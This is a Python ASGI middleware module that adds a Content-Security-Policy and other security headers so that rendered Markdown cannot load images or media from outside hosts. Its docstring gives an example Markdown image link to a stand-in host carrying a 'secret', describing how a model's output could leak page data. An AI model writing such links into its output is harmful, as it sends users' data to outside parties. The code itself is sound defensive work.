"""Headers on every response: what the page may load.

Replies and tool output are shown as Markdown, so a note or a model could
write `![](http://elsewhere/?secret)` and the browser would fetch it,
telling another machine what was on the page. Images and sound may come
only from the pet itself (and inline data), so nothing rendered reaches out.
"""

from __future__ import annotations

from pet.api.limits import ASGIApp, Message, Receive, Scope, Send

CONTENT_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:"
HEADERS = (
    (b"content-security-policy", CONTENT_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"no-referrer"),
)


class SafeHeaders:
    """Adds HEADERS to every HTTP response that does not set them itself."""

    def __init__(self, app: ASGIApp):
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                present = {name.lower() for name, _ in headers}
                headers.extend((name, value) for name, value in HEADERS if name not in present)
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send=with_headers)
